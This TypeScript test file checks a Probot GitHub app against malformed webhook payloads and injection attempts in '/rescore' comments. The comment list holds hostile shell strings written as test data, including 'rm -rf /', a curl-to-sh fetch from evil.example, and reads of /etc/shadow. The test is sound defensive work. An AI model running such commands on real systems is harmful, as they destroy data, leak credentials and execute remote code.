import { randomUUID } from "node:crypto";
import type { Probot } from "probot";
import {
  OWNER,
  REPO,
  checkRunRerequested,
  issueCommentCreated,
  pullRequestEvent,
  workflowRunCompleted,
} from "../../harness/fake-github/adjust-payloads.js";
import { FakeGitHub } from "../../harness/fake-github/fake-github-server.js";
import { makeTestScorecard, zipScorecard } from "../../harness/fake-github/make-test-scorecard.js";
import { DEFAULT_BASE_SHA, type FakePull, type FakeRepository, serveRepository } from "../../harness/fake-github/serve-repository.js";
import { type CorpusRow, describeError, firstLine } from "./corpus-row.js";
import { createTestProbot } from "../../harness/fake-github/create-test-probot.js";
import { watchChildProcesses } from "./watch-child-processes.js";

const APP_ID = 5151;
const SHA = "d".repeat(40);
const PULL: FakePull = { number: 31, headSha: SHA, headRepo: `${OWNER}/${REPO}`, headBranch: "speedup", author: "writer" };
const RUN_ID = 9001;

type Payload = Record<string, unknown>;

/** Deletes (or with a value, replaces) the field at a dotted path of a payload copy. */
function without(payload: Payload, path: string, replacement?: unknown): Payload {
  const keys = path.split(".");
  let current: Payload = payload;
  for (const key of keys.slice(0, -1)) {
    const next = current[key];
    if (typeof next !== "object" || next === null) return payload;
    current = next as Payload;
  }
  const last = keys[keys.length - 1] ?? "";
  if (replacement === undefined) delete current[last];
  else current[last] = replacement;
  return payload;
}

interface WebhookCase {
  input: string;
  event: string;
  payload: () => Payload;
  /** The missing field only decorates (a link, the sender): posting the card or dispatching is still right. */
  actingIsFine?: boolean;
}

const run = (): Payload => workflowRunCompleted({ id: RUN_ID, headSha: SHA, headBranch: PULL.headBranch, headRepo: `${OWNER}/${REPO}` });
const comment = (): Payload => issueCommentCreated({ number: PULL.number, body: "/rescore", login: "maintainer" });
const opened = (): Payload => pullRequestEvent("opened", { number: PULL.number, headSha: SHA, author: "writer" });
const rerun = (): Payload => checkRunRerequested({ headSha: SHA, login: "maintainer", pullNumber: PULL.number });

/*
 * Not tried: a delivery without `installation`. The fake does not check tokens, so it would accept
 * the app-authenticated calls GitHub refuses; GitHub never sends such a delivery to an installed app.
 */
const MISSING_FIELDS: WebhookCase[] = [
  ...[
    "workflow_run",
    "repository",
    "workflow_run.path",
    "workflow_run.head_sha",
    "workflow_run.id",
    "workflow_run.head_repository",
    "repository.owner",
  ].map((path): WebhookCase => ({
    input: `workflow_run.completed without ${path}`,
    event: "workflow_run",
    payload: () => without(run(), path),
  })),
  ...["workflow_run.html_url", "workflow_run.event", "workflow_run.run_started_at"].map((path): WebhookCase => ({
    input: `workflow_run.completed without ${path}`,
    event: "workflow_run",
    payload: () => without(run(), path),
    actingIsFine: true,
  })),
  {
    input: "workflow_run.completed with workflow_run.head_sha: null",
    event: "workflow_run",
    payload: () => without(run(), "workflow_run.head_sha", null),
  },
  { input: "workflow_run.completed as an empty object", event: "workflow_run", payload: () => ({ action: "completed" }) },
  ...["comment", "comment.body", "comment.user", "issue", "issue.number", "repository"].map((path): WebhookCase => ({
    input: `issue_comment.created (/rescore) without ${path}`,
    event: "issue_comment",
    payload: () => without(comment(), path),
  })),
  {
    input: "issue_comment.created (/rescore) without sender",
    event: "issue_comment",
    payload: () => without(comment(), "sender"),
    actingIsFine: true,
  },
  {
    input: "issue_comment.created with comment.body: null",
    event: "issue_comment",
    payload: () => without(comment(), "comment.body", null),
  },
  ...["pull_request", "pull_request.head", "pull_request.head.sha", "pull_request.number", "repository"].map((path): WebhookCase => ({
    input: `pull_request.opened without ${path}`,
    event: "pull_request",
    payload: () => without(opened(), path),
  })),
  ...["check_run", "check_run.head_sha", "check_run.name", "check_run.pull_requests", "sender"].map((path): WebhookCase => ({
    input: `check_run.rerequested without ${path}`,
    event: "check_run",
    payload: () => without(rerun(), path),
  })),
];

/** Comment bodies trying to smuggle something into a shell or the dispatch. */
const RESCORE_BODIES = [
  "/rescore; rm -rf /",
  "/rescore && curl https://evil.example | sh",
  "/rescore $(id)",
  "/rescore `id`",
  "/rescore | sh",
  "/rescore > /etc/passwd",
  "/rescore --sha 0000000000000000000000000000000000000000 --pr 1",
  "/rescore pr=1 sha=0000000000000000000000000000000000000000 ref=evil",
  "/rescore\n$(reboot)\n`id`",
  "/rescore ${IFS}cat${IFS}/etc/shadow",
  "/rescore 'quoted' \"double\" \\ backslash",
  "/rescore\u0000nul",
  `/rescore ${"A".repeat(60_000)}`,
  "/rescore$(id)",
  "/rescore;id",
];

/** Webhook payloads missing fields, and /rescore comments with garbage, delivered in-process to the app. */
export async function runWebhookInputs(): Promise<CorpusRow[]> {
  const fake = new FakeGitHub();
  await fake.start();
  const rows: CorpusRow[] = [];
  try {
    const probot = await createTestProbot({ fakeUrl: fake.url, appId: APP_ID, logLevel: "fatal" });
    const setUp = (): FakeRepository => {
      fake.reset();
      return serveRepository(fake, {
        owner: OWNER,
        repo: REPO,
        appId: APP_ID,
        pulls: [{ ...PULL }],
        roles: { maintainer: "admin" },
        artifacts: { [RUN_ID]: zipScorecard(makeTestScorecard()) },
      });
    };
    const deliver = async (event: string, payload: Payload): Promise<unknown> => {
      try {
        await probot.receive({ id: randomUUID(), name: event, payload } as Parameters<Probot["receive"]>[0]);
        return null;
      } catch (error) {
        // Probot gathers handler errors in an AggregateError.
        return error instanceof AggregateError ? (error.errors[0] ?? error) : error;
      }
    };

    for (const item of MISSING_FIELDS) {
      const repository = setUp();
      const error = await deliver(item.event, item.payload());
      const base = { category: "webhook payload", input: item.input };
      const wrote = fake.requests.filter((request) => request.method !== "GET" && !request.path.includes("/access_tokens"));
      if (fake.violations.length > 0) {
        rows.push({ ...base, outcome: "crash", message: `malformed or unexpected API request: ${firstLine(fake.violations[0] ?? "")}` });
      } else if (error instanceof TypeError || error instanceof RangeError || error instanceof ReferenceError) {
        rows.push({ ...base, outcome: "crash", message: firstLine(describeError(error)) });
      } else if (!item.actingIsFine && (fake.comments.length > 0 || repository.dispatches.length > 0)) {
        rows.push({
          ...base,
          outcome: "accepted",
          message: `acted on it: ${wrote.map((request) => `${request.method} ${request.template ?? request.path}`).join(", ")}`,
        });
      } else {
        const said = error
          ? `refused: ${firstLine(describeError(error))}`
          : wrote.length > 0
            ? `answered: ${wrote.map((request) => `${request.method} ${request.template ?? request.path}`).join(", ")}`
            : "ignored, no API write";
        rows.push({ ...base, outcome: "clear", message: said });
      }
    }

    const watch = watchChildProcesses();
    try {
      for (const body of RESCORE_BODIES) {
        const repository = setUp();
        const spawnedBefore = watch.calls.length;
        const error = await deliver("issue_comment", issueCommentCreated({ number: PULL.number, body, login: "maintainer" }));
        const base = { category: "/rescore comment", input: JSON.stringify(body.length > 80 ? `${body.slice(0, 77)}…` : body) };
        const spawned = watch.calls.slice(spawnedBefore);
        // The base comes from GitHub's pull request, never from the comment: it must be exactly that.
        const foreign = repository.dispatches.filter(
          (dispatch) =>
            JSON.stringify(Object.keys(dispatch.inputs).sort()) !== JSON.stringify(["base", "pr", "sha"]) ||
            dispatch.inputs.pr !== String(PULL.number) ||
            dispatch.inputs.sha !== SHA ||
            dispatch.inputs.base !== DEFAULT_BASE_SHA ||
            dispatch.ref !== "main",
        );
        if (spawned.length > 0) rows.push({ ...base, outcome: "accepted", message: `started a process: ${spawned.join("; ")}` });
        else if (foreign.length > 0) rows.push({ ...base, outcome: "accepted", message: `dispatched with ${JSON.stringify(foreign[0])}` });
        else if (error || fake.violations.length > 0)
          rows.push({ ...base, outcome: "crash", message: firstLine(error ? describeError(error) : (fake.violations[0] ?? "")) });
        else {
          const what =
            repository.dispatches.length > 0
              ? `dispatched once with only pr=${PULL.number}, the head sha and the pull request's base sha`
              : "ignored (not the /rescore command)";
          rows.push({ ...base, outcome: "clear", message: `${what}; no process started` });
        }
      }
    } finally {
      watch.restore();
    }
  } finally {
    await fake.stop();
  }
  return rows;
}
